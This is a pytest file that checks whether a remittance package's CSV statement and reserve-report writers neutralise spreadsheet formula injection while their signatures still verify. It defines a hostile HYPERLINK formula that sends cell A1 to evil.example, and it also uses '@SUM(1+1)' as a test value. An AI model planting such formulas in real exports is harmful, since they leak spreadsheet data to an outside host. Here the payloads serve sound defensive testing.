"""CSV documents never carry a spreadsheet formula: a text cell that starts with ``=``, ``+``,
``-``, ``@``, a tab or a carriage return is written with a leading single quote (OWASP's CSV
injection advice), before signing, so the signed CSV still verifies; numbers stay numbers."""

from __future__ import annotations

import csv
import io
from dataclasses import replace
from typing import Any

import pytest

from remittance import Statement
from remittance.csv_cells import Number, row, text
from remittance.reserve_report_csv import render_report_csv
from remittance.signing import (
    new_private_key,
    public_key_of,
    sign_report_csv,
    sign_statement_csv,
    verify,
)
from remittance.statement_csv import render_csv
from remittance.statement_json import statement_sha256

HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"click")'


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_text_starting_like_a_formula_is_quoted(start: str) -> None:
    assert text(f"{start}1+2") == f"'{start}1+2"


def test_other_text_and_numbers_are_written_as_they_are() -> None:
    assert row(["ekibastuz-1", "KZ-2026-001", -5000, 0, None, Number("-0.00005000")]) == [
        "ekibastuz-1",
        "KZ-2026-001",
        -5000,
        0,
        None,
        "-0.00005000",
    ]


def _cells(document: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(document.decode())))


def test_a_statement_csv_quotes_a_hostile_name_and_licence_and_still_verifies(
    worked_statement: Statement,
) -> None:
    statement = replace(
        worked_statement,
        operation_name=HOSTILE,
        licence="@SUM(1+1)",
        account_balance_sat=-5000,
        closing_balance_sat=-5000,
    )
    key = new_private_key()
    document = sign_statement_csv(statement, key)
    fields = {r[1]: r[2] for r in _cells(render_csv(statement)) if r and r[0] == "statement"}
    assert fields["operation_name"] == "'" + HOSTILE
    assert fields["licence"] == "'@SUM(1+1)"
    assert fields["account_balance_sat"] == "-5000"
    assert fields["closing_balance_sat"] == "-5000"
    verified = verify(document, public_key_of(key))
    assert verified.statement_sha256 == statement_sha256(statement)
    # the JSON statement (not a spreadsheet's) keeps the name as it is
    assert statement.operation_name == HOSTILE


def _report(address: str) -> dict[str, Any]:
    empty = {"total_sat": 0, "by_source": [], "by_wallet": []}
    return {
        "period": "2026-11",
        "as_of": "2026-12-01T00:00:00Z",
        "holdings": {"start": empty, "end": empty, "pending": {"movements": []}},
        "inflows": {"by_source": []},
        "operations": [
            {
                "operation": "-op",
                "periods": [
                    {
                        "period": "2026-10",
                        "deadline": "2026-11-10T19:00:00Z",
                        "due_sat": 10,
                        "settled_sat": 0,
                        "unpaid_sat": 10,
                        "past_deadline_sat": 10,
                        "not_yet_due_sat": 0,
                        "provisional": [],
                    }
                ],
                "received_sat": -5000,
                "received_to_earlier_sat": 0,
                "received_to_listed_sat": 0,
                "received_to_later_sat": 0,
                "received_credit_sat": -5000,
            }
        ],
        "seized": [],
        "custody_movements": [],
        "unapproved_outflows": [
            {
                "txid": "ab" * 32,
                "status": "confirmed",
                "block_time": "2026-11-02T00:00:00Z",
                "paid_to": [{"address": address, "sat": 1000, "beyond_gap_of": None}],
                "reasons": ["outside"],
            }
        ],
        "valuation": {
            "rule": "holdings at the latest price",
            "price_end_usd": "-1.5",
            "price_end_usd_source": "+exchange",
            "inflows_unvalued_usd": 0,
        },
        "national_hashrate_share": {"average_ratio": "0.012", "days": 30},
        "proofs": [],
    }


def test_a_reserve_report_csv_quotes_a_hostile_address_and_still_verifies() -> None:
    body = render_report_csv(_report(HOSTILE), "cd" * 32)
    rows = _cells(body)
    assert [
        "unapproved",
        "ab" * 32,
        "confirmed",
        "2026-11-02T00:00:00Z",
        "'" + HOSTILE,
        "1000",
        "outside",
    ] in rows
    assert [
        "operation_period", "'-op", "2026-10", "2026-11-10T19:00:00Z", "10", "0", "10", "10", "0",
        "",
    ] in rows  # fmt: skip
    assert ["operation_payments", "'-op", "-5000", "0", "0", "0", "-5000"] in rows
    assert ["valuation", "price_end_usd", "-1.5"] in rows  # a number, not text
    assert ["valuation", "price_end_usd_source", "'+exchange"] in rows
    assert ["national_hashrate_share", "0.012", "30"] in rows
    key = new_private_key()
    verified = verify(sign_report_csv(body, key), public_key_of(key))
    assert verified.statement_sha256 == "cd" * 32
